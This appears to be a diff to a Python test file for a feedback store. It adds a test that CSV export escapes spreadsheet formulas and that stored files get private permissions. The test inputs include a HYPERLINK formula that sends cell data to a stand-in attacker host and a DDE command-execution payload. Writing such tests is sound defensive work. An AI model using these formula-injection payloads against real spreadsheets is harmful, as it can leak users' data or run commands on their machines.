@@ -1,5 +1,6 @@
 import csv
 import io
+import stat
 
 import pytest
 
@@ -27,6 +28,19 @@ def test_feedback_is_stored_durably_and_exported(tmp_path):
     assert exported[0]["question"] == "Combien d'emplois ?" and exported[1]["rating"] == "0"
     with pytest.raises(ValueError, match="rating must be 0 or 1"):
         store.add(ANSWER, 5)
+
+
+def test_csv_export_escapes_formulas_and_files_are_private(tmp_path):
+    store = FeedbackStore(tmp_path / "data" / "feedback.sqlite")
+    hostile = ANSWER.model_copy(update={"question": '=HYPERLINK("http://attacker.invalid/?q="&A1)'})
+    store.add(hostile, 1, "+cmd|' /C calc'!A0")
+    store.add(ANSWER.model_copy(update={"question": "@SUM(1)"}), 0, "-2+3")
+    exported = list(csv.DictReader(io.StringIO(store.to_csv())))
+    assert [r["question"] for r in exported] == ['\'=HYPERLINK("http://attacker.invalid/?q="&A1)', "'@SUM(1)"]
+    assert [r["comment"] for r in exported] == ["'+cmd|' /C calc'!A0", "'-2+3"]
+    assert exported[0]["rating"] == "1"  # numbers untouched
+    assert stat.S_IMODE((tmp_path / "data").stat().st_mode) == 0o700
+    assert stat.S_IMODE((tmp_path / "data" / "feedback.sqlite").stat().st_mode) == 0o600
 
 
 @pytest.mark.parametrize(
